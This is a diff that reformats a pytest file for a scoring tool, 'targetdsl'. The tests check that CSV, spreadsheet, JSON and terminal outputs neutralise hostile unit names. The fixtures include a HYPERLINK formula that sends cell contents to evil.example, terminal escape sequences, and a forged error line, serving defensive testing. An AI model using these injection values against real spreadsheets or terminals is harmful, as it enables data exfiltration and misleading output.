@@ -23,7 +23,7 @@ from targetdsl.source import display_width
 
 ROOT = Path(__file__).resolve().parent.parent.parent
 
-POLICY = '''policy "小政策" { year 2003 status draft }
+POLICY = """policy "小政策" { year 2003 status draft }
 class c "县区" { k 100 }
 category k "重点工作" {
     indicator a points 100 {
@@ -31,7 +31,7 @@ category k "重点工作" {
         score x * points / 100
     }
 }
-'''
+"""
 # What an office's spreadsheet or an attacker may put in a unit's name.
 NAMES = {
     "F1": '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -65,8 +65,10 @@ def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path
     policy = tmp_path / "p.tdsl"
     policy.write_text(POLICY, encoding="utf-8")
     data = tmp_path / "units.json"
-    units = [{"id": key, "name": name, "class": "c", "indicators": {"a": {"x": 50 + index}}}
-             for index, (key, name) in enumerate(NAMES.items())]
+    units = [
+        {"id": key, "name": name, "class": "c", "indicators": {"a": {"x": 50 + index}}}
+        for index, (key, name) in enumerate(NAMES.items())
+    ]
     units.append({"id": "NEG", "name": "负数", "class": "c", "indicators": {"a": {"x": -30.5}}})
     data.write_text(json.dumps({"units": units}, ensure_ascii=True), encoding="utf-8")
     return policy, data
@@ -76,8 +78,9 @@ def run(*argv: str | Path) -> int:
     return main([str(a) for a in argv])
 
 
-def test_the_text_table_shows_control_characters_as_escapes(hostile: tuple[Path, Path],
-                                                             capsys: pytest.CaptureFixture[str]) -> None:
+def test_the_text_table_shows_control_characters_as_escapes(
+    hostile: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
+) -> None:
     assert run("evaluate", *hostile) == 0
     out = capsys.readouterr().out
     assert not RAW.search(out.replace("\n", ""))
@@ -88,12 +91,13 @@ def test_the_text_table_shows_control_characters_as_escapes(hostile: tuple[Path,
     # every row's total still ends in the same terminal column as the header's
     table = out.split("\n\n")[1].splitlines()[1:]
     figures = re.compile(r"(-?\d+\.\d\d) +-?\d+\.\d\d +-?\d+\.\d\d +—")  # total, k, bonus, veto
-    ends = {display_width(line[:m.end(1)]) for line in table[2:] if (m := figures.search(line))}
+    ends = {display_width(line[: m.end(1)]) for line in table[2:] if (m := figures.search(line))}
     assert len(ends) == 1 and len(table) == 2 + len(NAMES) + 1
 
 
-def test_csv_neutralises_formula_cells_and_keeps_negative_numbers(hostile: tuple[Path, Path], tmp_path: Path,
-                                                                  capsys: pytest.CaptureFixture[str]) -> None:
+def test_csv_neutralises_formula_cells_and_keeps_negative_numbers(
+    hostile: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     out = tmp_path / "results.csv"
     assert run("evaluate", *hostile, "-o", out) == 0
     rows = {row["id"]: row for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))}
@@ -103,8 +107,12 @@ def test_csv_neutralises_formula_cells_and_keeps_negative_numbers(hostile: tuple
     assert rows["E1"]["name"].startswith("\\x1b[1A")
     assert rows["N1"]["name"] == "普通 县"
     assert rows["NEG"]["total"] == "-30.5" and rows["NEG"]["k"] == "-30.5"  # a number, not text
-    assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for row in rows.values()
-                   for key, cell in row.items() if key not in ("total", "raw_total", "k"))
+    assert not any(
+        cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
+        for row in rows.values()
+        for key, cell in row.items()
+        if key not in ("total", "raw_total", "k")
+    )
 
 
 def test_streamed_csv_is_neutralised_too(hostile: tuple[Path, Path], tmp_path: Path) -> None:
@@ -126,8 +134,9 @@ def test_streamed_csv_is_neutralised_too(hostile: tuple[Path, Path], tmp_path: P
 
 
 @pytest.mark.parametrize("suffix", ["json", "jsonl"])
-def test_json_outputs_are_valid_utf8_and_give_back_every_name(hostile: tuple[Path, Path], tmp_path: Path,
-                                                              suffix: str) -> None:
+def test_json_outputs_are_valid_utf8_and_give_back_every_name(
+    hostile: tuple[Path, Path], tmp_path: Path, suffix: str
+) -> None:
     out = tmp_path / f"results.{suffix}"
     assert run("evaluate", *hostile, "-o", out) == 0
     raw = out.read_bytes()
@@ -184,18 +193,38 @@ def test_templates_are_byte_reproducible_across_processes(tmp_path: Path) -> Non
     for seed in ("1", "2"):
         out = tmp_path / f"t{seed}.xlsx"
         env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(ROOT)}
-        subprocess.run([sys.executable, "-m", "targetdsl", "template", str(ROOT / "policies/lianyungang-2003.tdsl"),
-                        "-o", str(out), "--rows", "3", "--items", "2"], check=True, env=env, capture_output=True)
+        subprocess.run(
+            [
+                sys.executable,
+                "-m",
+                "targetdsl",
+                "template",
+                str(ROOT / "policies/lianyungang-2003.tdsl"),
+                "-o",
+                str(out),
+                "--rows",
+                "3",
+                "--items",
+                "2",
+            ],
+            check=True,
+            env=env,
+            capture_output=True,
+        )
         outputs.append(out.read_bytes())
     assert outputs[0] == outputs[1]
 
 
-def test_template_labels_are_text_and_control_characters_escaped(tmp_path: Path,
-                                                                 capsys: pytest.CaptureFixture[str]) -> None:
+def test_template_labels_are_text_and_control_characters_escaped(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     policy = tmp_path / "p.tdsl"
-    policy.write_text(POLICY.replace('category k "重点工作"', 'category k "=1+1 重点"').replace(
-        "input x: number", 'input x "=HYPERLINK(\\"http://evil.example\\",\\"x\\") \x1b[2J": number'),
-        encoding="utf-8")
+    policy.write_text(
+        POLICY.replace('category k "重点工作"', 'category k "=1+1 重点"').replace(
+            "input x: number", 'input x "=HYPERLINK(\\"http://evil.example\\",\\"x\\") \x1b[2J": number'
+        ),
+        encoding="utf-8",
+    )
     out = tmp_path / "t.xlsx"
     code = run("template", policy, "-o", out)
     if code == 1:  # a policy may refuse control characters in a label: then it must say so, not crash
@@ -207,8 +236,13 @@ def test_template_labels_are_text_and_control_characters_escaped(tmp_path: Path,
     parts = sheet_xml(out)
     assert not any("<f>" in xml for name, xml in parts.items() if "worksheets" in name)
     book = openpyxl.load_workbook(out)
-    labels = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
-              if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    labels = [
+        c
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if isinstance(c.value, str) and "HYPERLINK" in c.value
+    ]
     assert labels and all(c.data_type == "s" for c in labels)
     assert all(c.quotePrefix for c in labels if c.value.startswith("="))
 
@@ -225,10 +259,17 @@ def test_diagnostics_show_control_characters_as_escapes(tmp_path: Path, capsys: 
     policy = tmp_path / "p.tdsl"
     policy.write_text(POLICY, encoding="utf-8")
     data = tmp_path / "units.json"
-    data.write_text(json.dumps({"units": [{"id": "X\x1b[2J", "name": "\x1b]0;t\x07", "class": "nope",
-                                           "indicators": {"a": {"x": 1}}},
-                                          {"id": "Y\nerror: units.json: unit Z: fake", "class": "nope"}]}),
-                    encoding="utf-8")
+    data.write_text(
+        json.dumps(
+            {
+                "units": [
+                    {"id": "X\x1b[2J", "name": "\x1b]0;t\x07", "class": "nope", "indicators": {"a": {"x": 1}}},
+                    {"id": "Y\nerror: units.json: unit Z: fake", "class": "nope"},
+                ]
+            }
+        ),
+        encoding="utf-8",
+    )
     assert run("evaluate", policy, data) == 1
     captured = capsys.readouterr()
     assert captured.out == ""
@@ -294,24 +335,26 @@ def test_writing_through_a_symbolic_link_keeps_the_link(tmp_path: Path) -> None:
     assert link.is_symlink() and real.read_text(encoding="utf-8") == "new\n"
 
 
-def test_every_output_format_is_byte_reproducible_across_processes(hostile: tuple[Path, Path],
-                                                                   tmp_path: Path) -> None:
+def test_every_output_format_is_byte_reproducible_across_processes(hostile: tuple[Path, Path], tmp_path: Path) -> None:
     """Two processes with different hash seeds (set and dict-of-set order) give the same bytes in every format."""
     policy, data = hostile
-    script = ("import json, re, sys\nfrom decimal import Decimal\nfrom targetdsl import data, documents\n"
-              "from targetdsl.cli import main\n"
-              "data.CONTROL = re.compile('(?!)')  # as the fixture: the names reach every output\n"
-              "documents.parse_json = lambda text: json.loads(text, parse_float=Decimal)\n"
-              "for name in sys.argv[3:]:\n"
-              "    command = 'report' if name.endswith('.html') else 'evaluate'\n"
-              "    assert main([command, sys.argv[1], sys.argv[2], '-o', name]) == 0\n")
+    script = (
+        "import json, re, sys\nfrom decimal import Decimal\nfrom targetdsl import data, documents\n"
+        "from targetdsl.cli import main\n"
+        "data.CONTROL = re.compile('(?!)')  # as the fixture: the names reach every output\n"
+        "documents.parse_json = lambda text: json.loads(text, parse_float=Decimal)\n"
+        "for name in sys.argv[3:]:\n"
+        "    command = 'report' if name.endswith('.html') else 'evaluate'\n"
+        "    assert main([command, sys.argv[1], sys.argv[2], '-o', name]) == 0\n"
+    )
     outputs = {}
     for seed in ("1", "2"):
         directory = tmp_path / seed
         directory.mkdir()
         names = [str(directory / f"r.{ext}") for ext in ("xlsx", "csv", "json", "jsonl", "txt", "html")]
         env = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(ROOT)}
-        subprocess.run([sys.executable, "-c", script, str(policy), str(data), *names], check=True, env=env,
-                       capture_output=True)
+        subprocess.run(
+            [sys.executable, "-c", script, str(policy), str(data), *names], check=True, env=env, capture_output=True
+        )
         outputs[seed] = {Path(name).name: Path(name).read_bytes() for name in names}
     assert outputs["1"] == outputs["2"]
